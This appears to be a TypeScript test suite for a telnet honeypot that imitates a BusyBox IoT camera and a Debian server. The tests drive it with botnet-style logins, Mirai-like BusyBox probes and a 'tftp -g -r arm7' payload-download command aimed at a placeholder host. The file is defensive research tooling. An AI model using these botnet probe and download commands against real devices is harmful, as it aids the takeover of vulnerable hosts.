import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { test } from "node:test";
import type { Persona } from "../persona.ts";
import { personaOf, startDecoy } from "../testbed.ts";
import { TelnetReader } from "./protocol.ts";
import { telnetDecoy } from "./server.ts";

const camera = personaOf("iot-device", 1);
const passwordOf = (persona: Persona) =>
  persona.weakLogins.find((login) => login.user === "root")?.password ?? "";

/** A client as botnets write them: raw bytes, and what came back so far. */
class Bot {
  readonly socket: Socket;
  seen = "";
  constructor(port: number) {
    this.socket = connect(port, "127.0.0.1");
    this.socket.on("error", () => {});
    this.socket.on("data", (chunk) => {
      this.seen += chunk.toString("latin1");
      this.socket.emit("seen");
    });
  }
  /** Waits until `mark` came after the last one; gives what came before it. */
  async until(mark: string): Promise<string> {
    while (!this.seen.includes(mark)) await once(this.socket, "seen");
    const at = this.seen.indexOf(mark) + mark.length;
    const text = this.seen.slice(0, at);
    this.seen = this.seen.slice(at);
    return text;
  }
}

test("telnetDecoy lets Debian's telnet client in and runs its commands", async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  const script = `
    set timeout 10
    spawn telnet 127.0.0.1 ${decoy.port}
    expect "login: " { send "root\\r" }
    expect "Password: " { send "$env(SECRET)\\r" }
    expect "# " { send "uname -m\\r" }
    expect "armv7l" { send "exit\\r" }
    expect eof`;
  const child = spawn("expect", ["-c", script], {
    env: { ...process.env, SECRET: passwordOf(camera) },
  });
  let shown = "";
  child.stdout.setEncoding("latin1").on("data", (text: string) => (shown += text));
  const [rc] = (await once(child, "close")) as [number];
  assert.equal(rc, 0, shown);
  assert.match(shown, /Welcome to Buildroot\r\n/);
  assert.match(shown, /BusyBox v1\.27\.2 .* built-in shell \(ash\)/);
  assert.match(shown, /uname -m\r\narmv7l\r\n/);
  assert.deepEqual(decoy.events[0], {
    kind: "telnet.login.attempt",
    data: { user: "root", password: passwordOf(camera), success: true },
  });
  assert.deepEqual(decoy.events[1], { kind: "telnet.command", data: { input: "uname -m", rc: 0 } });
});

test("telnetDecoy answers the probes of botnets as a camera does", async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  const bot = new Bot(decoy.port);
  bot.socket.write(`root\r\n${passwordOf(camera)}\r\n`);
  await bot.until("~ # ");
  const ask = async (line: string) => {
    bot.socket.write(`${line}\r\n`);
    return (await bot.until("# ")).replace(/^[^\n]*\n/, "").replace(/[^\n]*$/, "");
  };
  assert.equal(await ask("enable"), "-sh: enable: not found\r\n");
  assert.equal(await ask("system"), "-sh: system: not found\r\n");
  assert.equal(await ask("sh"), "");
  assert.equal(await ask("/bin/busybox ECCHI"), "ECCHI: applet not found\r\n");
  assert.equal(await ask('echo -e "\\x67\\x61\\x79\\x66\\x67\\x74"'), "gayfgt\r\n");
  assert.match(
    await ask("cat /proc/mounts; /bin/busybox PSWNH"),
    /\/dev\/root \/ squashfs ro[^]*PSWNH: applet not found/,
  );
  assert.equal(decoy.events.at(-1)?.kind, "telnet.command");
});

test("telnetDecoy records a download that was tried, and answers it only after a while", async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  const bot = new Bot(decoy.port);
  bot.socket.write(
    `root\r\n${passwordOf(camera)}\r\ncd /tmp; tftp -g -r arm7 192.0.2.7; echo rc $?\r\n`,
  );
  while (!decoy.events.some(({ kind }) => kind === "shell.download"))
    await new Promise(setImmediate);
  decoy.pass(20_000);
  assert.match(await bot.until("rc 1\r\n"), /tftp: timeout/);
  const download = decoy.events.find(({ kind }) => kind === "shell.download");
  assert.deepEqual(download?.data, { tool: "tftp", url: "tftp://192.0.2.7/arm7", file: "arm7" });
});

test("telnetDecoy refuses a wrong password after three seconds, and ends after three of them", async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  const bot = new Bot(decoy.port);
  for (let attempt = 0; attempt < 3; attempt++) {
    await bot.until("login: ");
    bot.socket.write("admin\r\0wrong\r\0");
    while (decoy.events.length <= attempt) await new Promise(setImmediate);
    decoy.pass(3000);
    assert.match(await bot.until("Login incorrect\r\n"), /admin\r\nPassword: \r\n/);
  }
  await once(bot.socket, "close");
  assert.equal(decoy.events.length, 3);
});

test("telnetDecoy speaks of the distribution where it is a server", async (t) => {
  const persona = personaOf("linux-server", 5, { distro: "debian-10" });
  const decoy = await startDecoy(t, telnetDecoy, persona);
  const bot = new Bot(decoy.port);
  const text = await bot.until("login: ");
  assert.ok(
    text.endsWith(`Debian GNU/Linux 10\r\n${persona.hostname.split(".")[0]} login: `),
    text,
  );
});

test("telnetDecoy drops who does not log in", async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  const bot = new Bot(decoy.port);
  await bot.until("login: ");
  decoy.pass(61_000);
  await once(bot.socket, "close");
});

test("TelnetReader parts data from commands, however the bytes are cut", () => {
  const bytes = Buffer.from([97, 255, 253, 1, 255, 250, 24, 0, 88, 84, 255, 240, 255, 255, 98]);
  const whole = new TelnetReader().read(bytes);
  assert.deepEqual(whole, [
    { kind: "data", bytes: "a" },
    { kind: "negotiation", verb: "do", option: 1 },
    { kind: "terminalType", name: "xt" },
    { kind: "data", bytes: "\xffb" },
  ]);
  const reader = new TelnetReader();
  const pieces = [...bytes].flatMap((byte) => reader.read(Buffer.from([byte])));
  assert.deepEqual(
    pieces.filter((fact) => fact.kind !== "data"),
    whole.filter((fact) => fact.kind !== "data"),
  );
});

test("TelnetReader tells of a subnegotiation that is too long, and reads on", () => {
  const long = Buffer.concat([
    Buffer.from([255, 250, 24, 0]),
    Buffer.alloc(5000, 65),
    Buffer.from([255, 240, 98]),
  ]);
  assert.deepEqual(new TelnetReader().read(long), [
    { kind: "malformed", reason: "subnegotiation too long" },
    { kind: "data", bytes: "b" },
  ]);
});

test("telnetDecoy survives 2,000 connections of noise", { timeout: 60_000 }, async (t) => {
  const decoy = await startDecoy(t, telnetDecoy, camera);
  let state = 99;
  const random = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  const attack = async () => {
    const socket = connect(decoy.port, "127.0.0.1");
    socket.on("error", () => {});
    socket.resume();
    socket.end(
      Buffer.from(
        Array.from({ length: 1 + random(400) }, () =>
          random(5) === 0 ? 255 - random(16) : random(256),
        ),
      ),
    );
    await once(socket, "close");
  };
  for (let round = 0; round < 40; round++) {
    await Promise.all(Array.from({ length: 50 }, attack));
  }
  const bot = new Bot(decoy.port);
  await bot.until("login: ");
  bot.socket.destroy();
});
